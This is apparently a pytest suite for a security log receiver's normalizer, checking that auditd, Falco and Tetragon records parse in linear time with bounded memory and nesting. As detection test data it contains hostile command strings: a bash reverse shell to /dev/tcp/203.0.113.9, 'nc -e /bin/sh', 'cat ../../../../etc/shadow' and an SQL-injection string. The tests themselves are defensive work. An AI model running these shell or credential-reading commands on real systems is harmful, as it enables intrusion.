"""Hostile input: every parse linear, every nesting bounded, every byte waiting for assembly capped,
and one bad record never taking another with it (issue 11's reproductions, and more shapes)."""

from __future__ import annotations

import json
import time
import tracemalloc
from typing import Any

import pytest
from opentelemetry.proto.common.v1.common_pb2 import AnyValue, KeyValue
from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord

from core.event import MAX_ARGS, MAX_COMMAND_LINE
from otlp_receiver.normalize import Normalizer, falco
from otlp_receiver.normalize.auditd import MAX_LINE, AuditAssembler, parse_fields, parse_line
from otlp_receiver.normalize.normalizer import KINDS
from otlp_receiver.normalize.tetragon import split_arguments
from testing.otlp_values import any_value

MB = 1 << 20
HEADER = "type=SYSCALL msg=audit(1795528933.512:7781): "
# Seconds one 1 MB line may take, with the machine under load: linear parsing takes milliseconds, the
# quadratic regular expressions this replaces took 68 s for 60 KB.
LINEAR_BOUND = 3.0


def record(body: Any) -> LogRecord:
    result = LogRecord(observed_time_unix_nano=1_800_000_000_000_000_000)
    result.body.CopyFrom(any_value(body))
    return result


HOSTILE_LINES = {
    "one letter": HEADER + "a" * MB,
    "keys without values": HEADER + "a=" * (MB // 2),
    "unclosed quotes": HEADER + 'k="' * (MB // 3),
    "quotes alone": HEADER + '"' * MB,
    "apostrophes": HEADER + "'" * MB,
    "equals signs": HEADER + "=" * MB,
    "long keys": HEADER + ("k" * 70 + "=v ") * (MB // 73),
    "split argument pieces": HEADER.replace("SYSCALL", "EXECVE") + "a0[0]=" * (MB // 6),
    "hex argument": HEADER.replace("SYSCALL", "EXECVE") + "argc=1 a0=" + "41" * (MB // 2),
    "repeated node=": "node=" * (MB // 5),
    "repeated node= then a header": "node=x " * (MB // 7) + HEADER,
    "repeated headers": "type=SYSCALL msg=audit(" * (MB // 23),
    "digits in a header": "type=SYSCALL msg=audit(" + "1" * MB,
}


@pytest.mark.parametrize("shape", HOSTILE_LINES)
def test_one_megabyte_audit_lines_parse_in_linear_time(shape: str) -> None:
    line = HOSTILE_LINES[shape]
    started = time.perf_counter()
    parse_line(line)
    parse_fields(line)
    assert time.perf_counter() - started < LINEAR_BOUND, shape
    started = time.perf_counter()
    result = Normalizer().normalize("default", {"host.name": "h"}, record(line))
    assert time.perf_counter() - started < LINEAR_BOUND, shape
    assert result.kind in ("invalid", "unrecognised")  # over MAX_LINE: refused before any field is read


def test_tetragon_arguments_split_in_linear_time() -> None:
    for arguments in ('"a ' * (MB // 3), '" ' * (MB // 2), 'x"' * (MB // 2), " " * MB, '"' * MB):
        started = time.perf_counter()
        assert len(split_arguments(arguments)) <= MAX_ARGS + 1
        assert time.perf_counter() - started < LINEAR_BOUND


def nested_json(depth: int) -> str:
    return '{"output_fields": ' + "[" * depth + "]" * depth + ', "rule": "x"}'


def nest(value: AnyValue, depth: int) -> None:
    """Maps `depth` deep, built in place (protobuf refuses to copy or parse beyond 100 levels)."""
    for _ in range(depth):
        value = value.kvlist_value.values.add(key="a").value
    value.string_value = "deep"


def test_a_body_nested_thousands_deep_is_invalid_and_the_next_record_is_scored() -> None:
    normalizer = Normalizer()
    good = json.dumps({"rule": "r", "priority": "Warning", "output_fields": {"proc.cmdline": "nc -e /bin/sh"}})
    results = [normalizer.normalize("default", {}, record(body))
               for body in (nested_json(5_000), nested_json(100_000), good)]
    assert [r.kind for r in results] == ["invalid", "invalid", "falco"]
    assert results[2].event.command_line == "nc -e /bin/sh"
    assert not normalizer.failures


def test_structured_bodies_and_attributes_nested_thousands_deep_are_bounded() -> None:
    normalizer = Normalizer()
    rec = LogRecord()
    nest(rec.body, 5_000)
    nest(rec.attributes.add(key="output_fields").value, 5_000)
    assert normalizer.normalize("default", {}, rec).kind == "unrecognised"
    assert not normalizer.failures


def test_values_of_the_wrong_type_never_raise() -> None:
    normalizer = Normalizer()
    deep_list: Any = []
    for _ in range(900):  # below json's own recursion limit: parsed, then read by every source
        deep_list = [deep_list]
    for value in (deep_list, {"a": deep_list}, None, True, 1e308, -1, 2**70, "9" * 30, "", [None]):
        documents = [
            {"rule": "r", "output_fields": {key: value for key in ("proc.name", "proc.cmdline", "proc.pid",
                                                                  "proc.exepath", "user.uid", "proc.aname[2]")}},
            {"process_exec": {"process": {key: value for key in ("binary", "arguments", "pid", "uid", "cwd")},
                              "parent": value, "ancestors": value}, "time": value},
            {"event": {"category": value, "type": value, "action": value, "kind": value},
             "process": {"name": value, "args": value, "executable": value, "pid": value},
             "user": {"id": value, "effective": value}, "@timestamp": value},
        ]
        for document in documents:
            result = normalizer.normalize("default", {}, record(json.dumps(document)))
            assert result.kind in KINDS
            if result.event is not None:
                assert result.event.pid is None or 0 <= result.event.pid < 1 << 32
    assert not normalizer.failures


def test_a_record_that_raises_is_invalid_and_counted_not_fatal(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(document: dict[str, Any]) -> None:
        raise KeyError("a bug")

    monkeypatch.setattr(falco, "recognise", broken)
    normalizer = Normalizer()
    rec = record('{"rule": "x"}')
    rec.attributes.add(key="anomaly_score").value.double_value = 0.0  # kept for the forged-verdict check
    result = normalizer.normalize("default", {}, rec)
    assert (result.kind, result.attributes) == ("invalid", {"anomaly_score": 0.0})
    assert normalizer.failures == {"KeyError": 1}
    assert normalizer.normalize("default", {}, record("plain text")).kind == "unrecognised"


def test_oversized_audit_lines_are_refused_without_keeping_them() -> None:
    # Issue 11: 340 SYSCALL lines of about 1.4 MB took the scoring child from 231 to 4,107 MiB.
    normalizer = Normalizer()
    tracemalloc.start()
    try:
        for serial in range(340):
            line = f"type=SYSCALL msg=audit(1795528933.512:{serial}): " + "a" * (1400 * 1024)
            assert normalizer.normalize("default", {"host.name": "h"}, record(line)).kind == "invalid"
            del line
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert normalizer.assembler.pending() == (0, 0)
    assert peak < 20 * MB  # a few lines at a time, never all of them


def syscall_line(serial: int, filler: int) -> str:
    return (f"type=SYSCALL msg=audit(1795528933.512:{serial}): syscall=59 items=2 pid={serial} uid=0 "
            f'comm="x" exe="/bin/x" key="{"k" * filler}"')


def test_waiting_audit_events_are_capped_by_bytes_per_host_and_in_total() -> None:
    assembler = AuditAssembler(max_pending=10_000, max_pending_bytes=2 * MB, max_host_pending=10_000,
                               max_host_pending_bytes=MB // 2)
    filler = MAX_LINE - 200  # lines just under the line bound, each an event that never completes
    for serial in range(100):
        assembler.add("t", "host-a", syscall_line(serial, filler))
    count, size = assembler.pending()
    assert size <= MB // 2 and count == size // len(syscall_line(0, filler))
    evicted = assembler.take_evicted()
    assert evicted == 100 - count and assembler.take_evicted() == 0
    for host in range(40):
        for serial in range(10):
            assembler.add("t", f"host-{host}", syscall_line(serial, filler))
    assert assembler.pending()[1] <= 2 * MB


def test_waiting_audit_events_are_capped_by_count_and_evictions_are_reported() -> None:
    normalizer = Normalizer(assembler=AuditAssembler(max_pending=50, max_host_pending=20))
    for host in range(5):
        for serial in range(30):
            normalizer.normalize("default", {"host.name": f"h{host}"}, record(syscall_line(serial, 10)))
    assert normalizer.assembler.pending()[0] <= 50
    assert normalizer.take_counts() == {"auditd_evicted": 150 - normalizer.assembler.pending()[0]}
    assert normalizer.take_counts() == {}


def test_one_event_cannot_grow_without_bound() -> None:
    assembler = AuditAssembler()
    first = f"type=EXECVE msg=audit(1.0:1): argc=100000 a0=\"{'x' * 60_000}\""
    for _ in range(100):
        assembler.add("t", "h", first)
    assert assembler.pending()[1] <= 256 * 1024


def test_huge_argv_is_bounded_and_flagged() -> None:
    args = ["x" * 100] * 10_000
    rec = record(" ".join(args))
    rec.attributes.extend([KeyValue(key="process.executable.name", value=any_value("python3")),
                           KeyValue(key="process.command_line", value=any_value(" ".join(args))),
                           KeyValue(key="process.command_args", value=any_value(args))])
    event = Normalizer().normalize("default", {}, rec).event
    assert len(event.command_line) == MAX_COMMAND_LINE
    assert len(event.command_args) <= MAX_ARGS and sum(map(len, event.command_args)) <= MAX_COMMAND_LINE
    assert event.command_args_truncated


def test_huge_argv_sent_as_one_string_is_bounded_and_flagged() -> None:
    """argv as a string attribute (split on whitespace) rather than an array: as bounded as an array."""
    line = "sudo " * 200_000 + "id"
    rec = record(line)
    rec.attributes.extend([KeyValue(key="process.executable.name", value=any_value("sudo")),
                           KeyValue(key="process.command_args", value=any_value(line))])
    event = Normalizer().normalize("default", {}, rec).event
    assert event is not None and len(event.command_args) == MAX_ARGS and event.command_args_truncated
    assert event.command_line == " ".join(event.command_args)  # no command line sent: argv's, as bounded


@pytest.mark.parametrize("line", [
    "sh -c \"'; DROP TABLE security_events; --\"",
    "cat ../../../../etc/shadow",
    "echo \x00\x01\x1b[31mred\x7f\ud7ff",
    "\u202e\u2066evil\u2069",
])
def test_hostile_strings_are_carried_verbatim(line: str) -> None:
    rec = record(line)
    rec.attributes.extend([KeyValue(key="process.executable.name", value=any_value("sh")),
                           KeyValue(key="process.command_line", value=any_value(line))])
    assert Normalizer().normalize("default", {}, rec).event.command_line == line


def test_lone_surrogates_from_json_stay_in_the_event_as_text() -> None:
    body = '{"rule": "r", "output_fields": {"proc.cmdline": "sh -c \\ud800x"}}'
    event = Normalizer().normalize("default", {}, record(body)).event
    assert event.command_line == "sh -c \ud800x"  # core/otlpwire.py writes it back as valid UTF-8


def test_text_fields_are_bounded_as_paths_are() -> None:
    """A 15 MB working directory, path or parent name stayed in the scorer's process table and caches."""
    rec = record("ls")
    huge = "/" + "d" * (15 * MB)
    rec.attributes.extend([KeyValue(key=key, value=any_value(huge)) for key in (
        "process.working_directory", "process.executable.path", "process.parent.executable.name", "process.stdin")])
    rec.attributes.append(KeyValue(key="process.executable.name", value=any_value("ls")))
    normalizer = Normalizer()
    event = normalizer.normalize("default", {}, rec).event
    assert max(map(len, (event.working_directory, event.executable_path, event.parent_name, event.stdin))) == 4096
    assert not normalizer._repeats  # keyed by its bytes, the record itself would stay in the cache of repeats


def test_a_key_sent_twice_is_read_by_its_first_value_as_the_table_reads_it() -> None:
    """Scoring read the last `process.command_line` (`ls -la`), ClickHouse's map lookup the first (a reverse
    shell): the list showed the shell with the verdict of `ls -la`."""
    rec = record("")
    shell = "bash -i >& /dev/tcp/203.0.113.9/4 0>&1"
    rec.attributes.extend([KeyValue(key="process.executable.name", value=any_value("bash")),
                           KeyValue(key="process.command_line", value=any_value(shell)),
                           KeyValue(key="process.command_line", value=any_value("ls -la"))])
    assert Normalizer().normalize("default", {}, rec).event.command_line.startswith("bash -i")


def test_another_tenants_incomplete_events_do_not_evict_a_pending_exec() -> None:
    """Past the total, the oldest host of all gave way: another tenant's 11,000 SYSCALL-only lines evicted a
    pending exec, and its alert was never produced. Now the tenant with the most waiting gives way."""
    assembler = AuditAssembler(max_pending=50, max_host_pending=20)
    started = 'type=SYSCALL msg=audit(1795528933.512:7): syscall=59 success=yes exit=0 items=0 pid=7 uid=0 ' \
              'comm="nc" exe="/usr/bin/nc"'
    assert assembler.add("victim", "web-1", started).kind == "auditd_partial"
    for host in range(6):
        for serial in range(12):
            assembler.add("flooder", f"h{host}", syscall_line(1000 + serial, 10))
    assert assembler.take_evicted() > 0 and assembler.pending()[0] <= 50
    found = assembler.add("victim", "web-1", 'type=EXECVE msg=audit(1795528933.512:7): argc=3 a0="nc" a1="-e" '
                                            'a2="/bin/sh"')
    assert found is not None and found.kind == "auditd"
